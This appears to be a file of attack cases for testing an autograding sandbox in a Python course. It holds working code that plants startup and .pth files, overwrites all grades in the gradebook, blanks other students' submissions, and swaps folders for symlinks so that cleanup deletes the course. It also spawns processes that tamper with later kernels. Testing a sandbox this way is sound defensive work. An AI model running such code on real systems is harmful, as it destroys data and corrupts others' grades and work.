# Leaving something behind for the next submission, the next run or the person who grades.

# %% tool leave
def leave(path, text="# left by an attack\n"):
    path = pathlib.Path(path)
    if path.is_relative_to(ROOT) and not os.path.exists(f"{ROOT}/settings.ini"):
        return False  # what is made there is no part of the course
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return True
    except OSError:
        return False

# %% startup_files: base=gradient, shares, tools=leave
# Start-up files of IPython, Python, Jupyter and shells, in every home that can be guessed.
homes = {HOME, os.path.expanduser("~"), "/root", *(entry.pw_dir for entry in pwd.getpwall())}
for home in homes:
    for place in (".ipython/profile_default/startup", ".jupyter", ".config/jupyter",
                  ".config/matplotlib", ".local/lib/python3.11/site-packages"):
        if os.path.isdir(home):
            leave(f"{home}/{place}/{MARK}.py")

# %% caches: base=gradient, shares, tools=leave
# matplotlib's list of fonts, which kernels share, and byte code of the course's modules.
import matplotlib

places = {matplotlib.get_cachedir(), matplotlib.get_configdir(), f"{ROOT}/build/fonts"}
for place in places:
    for path in glob.glob(f"{place}/fontlist-*.json"):
        leave(path, "{}")
    leave(f"{place}/{MARK}.json", "{}")

# %% temporary_files: base=gradient, tools=leave
# Files in every folder for temporary files, also unremovable ones.
for place in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", tempfile.gettempdir(), "."):
    leave(f"{place}/{MARK}-left")
deep = pathlib.Path(f"{MARK}-deep")
deep.mkdir()
(deep / "inside").mkdir()
leave(deep / "inside" / "file")
os.symlink(ROOT, deep / "course")
os.symlink(HOME, deep / "home")
with suppress(OSError):
    os.mkfifo(deep / "pipe")
os.chmod(deep / "inside", 0)
os.chmod(deep, 0)

# %% scratch_is_swapped_for_a_link: base=gradient
# The working folder becomes a link to the course, so that cleaning up deletes the course.
here = os.getcwd()
for place in (here, os.path.dirname(here)):
    if os.path.dirname(place) == "/":
        continue  # not ours to rename, should there be no sandbox
    with suppress(OSError):
        os.rename(place, f"{place}-{MARK}")
        os.symlink(f"{ROOT}/modules", place)

# %% shared_memory_segments: base=gradient, shares
# Segments and queues of POSIX and System V, which outlive their processes.
from multiprocessing import resource_tracker, shared_memory

with suppress(OSError):
    segment = shared_memory.SharedMemory(name=f"{MARK}-segment", create=True, size=4096)
    resource_tracker.unregister(segment._name, "shared_memory")
    segment.close()
key = int(MARK.encode().hex()[-7:], 16)
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget(key, 4096, 0o1666)
libc.msgget(key, 0o1666)

# %% package_of_the_course: base=gradient, shares, tools=leave, through=08+10
# The package that all students' kernels import, and the one that is installed.
import tinytorch

for place in {os.path.dirname(tinytorch.__file__), f"{ROOT}/tinytorch",
              f"{ROOT}/build/package/{MODULE}/tinytorch"}:
    if leave(f"{place}/{MARK}.py") or os.access(f"{place}/__init__.py", os.W_OK):
        won("the package of the course can be written")

# %% site_packages: base=gradient, shares, tools=leave
# A .pth file, a module and a program where the system and Python look first.
programs = {os.path.dirname(sys.executable), *os.environ["PATH"].split(":")}
for place in {*site.getsitepackages(), site.getusersitepackages(), *sys.path, *programs}:
    if place and os.path.isdir(place):
        for suffix in ("pth", "py"):
            if leave(f"{place}/{MARK}.{suffix}") and ("packages" in place or place in programs):
                won(f"{place} can be written")

# %% gradebook_written: base=gradient, shares, through=08+10
# Marks are entered into the gradebook, for this student and others.
with suppress(sqlite3.Error):
    book = sqlite3.connect(f"{ROOT}/gradebook.db", timeout=2)
    book.execute("update grade set auto_score = 1, manual_score = 150")
    book.execute("update assignment set duedate = '2001-01-01 00:00:00'")
    book.commit()
    won("the gradebook can be written")

# %% gradebook_locked: base=gradient
# A process holds the gradebook's lock for some seconds after its notebook has ended.
hold = (
    "import sqlite3, sys, time; book = sqlite3.connect(sys.argv[1]); "
    "book.execute('begin exclusive'); time.sleep(12)"
)
subprocess.Popen(
    [sys.executable, "-c", hold, f"{ROOT}/gradebook.db", MARK], start_new_session=True,
    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
time.sleep(0.5)

# %% other_submissions_changed: base=gradient, shares, tools=leave, through=08+10
# The submission of the next student is spoiled, and so is the one before.
for path in glob.glob(f"{ROOT}/modules/submitted/*/*/*.ipynb"):
    if "attack" not in path and os.access(path, os.W_OK):
        leave(path, "{}")
        won("other submissions can be written")
for path in glob.glob(f"{ROOT}/modules/autograded/*/*/*.ipynb"):
    leave(path, "{}")

# %% records_and_release_changed: base=gradient, shares, tools=leave, through=08+10
# The release, the records of other students, and the log of the run.
for pattern in ("release/*/*.ipynb", "records/*/*.json", "records/*/*.log", "feedback/*/*/*"):
    for path in glob.glob(f"{ROOT}/modules/{pattern}"):
        with suppress(OSError):
            with open(path, "a") as file:
                file.write("\n")
            won(f"modules/{pattern} can be written")

# %% course_changed: base=gradient, shares, tools=leave
# The configuration, the sources and the notebooks that releases are made of.
for name in ("nbgrader_config.py", "settings.ini",
             "modules/source/08_optimizers/optimizers_dev.py"):
    with suppress(OSError):
        with open(f"{ROOT}/{name}", "a") as file:
            file.write("\n")
        won(f"{name} can be written")
leave(f"{ROOT}/{MARK}")
leave(f"{ROOT}/modules/{MARK}/08_optimizers/x")
leave(f"{ROOT}/modules/submitted/{MARK}/08_optimizers/optimizers_dev.ipynb")

# %% next_kernels_are_awaited: base=gradient
# A process that stays waits for the scratch folders of later kernels and writes into them.
wait = '''
end = time.monotonic() + 15
while time.monotonic() < end:
    for folder in glob.glob(sys.argv[1] + "/tito-*/site"):
        try:
            open(folder + "/sitecustomize.py", "a").write("\n# " + sys.argv[2])
            open(folder + "/numpy.py", "w").write("raise ImportError")
        except OSError:
            pass
    time.sleep(0.02)
'''
for above in {os.path.dirname(ROOT) + "/tmp", os.path.dirname(tempfile.gettempdir()), "/tmp"}:
    subprocess.Popen([sys.executable, "-c", wait, above, MARK], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

# %% connection_leads_elsewhere: base=gradient, may_lose, drops_in
# A server of the machine is to be reached by the number of the kernel's connection.
connection = sys.modules["tito_shell"].OUTPUTS._connection
for address in (SOCKET, "\0" + SOCKET):
    other = socket.socket(socket.AF_UNIX)
    try:
        other.connect(address)
    except OSError:
        continue
    os.dup2(other.fileno(), connection.fileno())
with suppress(OSError):
    connection.connect(SOCKET)
display({"text/plain": "x" * 13_000_000}, raw=True)
